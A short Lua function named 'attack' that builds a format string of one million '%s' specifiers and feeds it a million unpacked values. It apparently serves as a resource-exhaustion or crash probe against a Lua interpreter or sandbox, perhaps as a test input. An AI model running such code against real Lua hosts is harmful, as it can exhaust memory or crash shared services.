function attack(rec)
  return string.format(("%s"):rep(1000000), table.unpack({}, 1, 1000000))
end
